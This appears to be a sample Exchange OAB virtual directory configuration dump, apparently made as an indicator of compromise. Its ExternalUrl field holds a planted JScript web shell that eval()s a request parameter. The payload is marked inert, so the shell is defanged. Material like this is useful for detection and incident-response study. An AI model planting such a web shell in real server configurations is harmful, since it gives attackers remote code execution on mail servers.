
Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : \Default Offline Address Book
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : False
MetabasePath                    : IIS://exch01.contoso.example/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         : 
ExtendedProtectionSPNList       : 
AdminDisplayVersion             : Version 15.1 (Build 2176.2)
Server                          : EXCH01
InternalUrl                     : https://exch01.contoso.example/OAB
InternalAuthenticationMethods   : WindowsIntegrated
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request[PAYLOAD inert],"unsafe");}</script>
ExternalAuthenticationMethods   : WindowsIntegrated
AdminDisplayName                : 
ExchangeVersion                 : 0.10 (14.0.100.0)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EXCH01,CN=Servers,CN=Exchange Administrative Group,CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=example
Identity                        : EXCH01\OAB (Default Web Site)
Guid                            : 9a1f0b2c-3d4e-4f50-8a6b-7c8d9e0f1a2b
ObjectCategory                  : contoso.example/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : top msExchVirtualDirectory msExchOABVirtualDirectory
WhenChanged                     : 3/6/2021 5:44:24 PM
WhenCreated                     : 12/22/2020 7:21:00 AM
OrganizationId                  : 
OriginatingServer               : dc01.contoso.example
IsValid                         : True


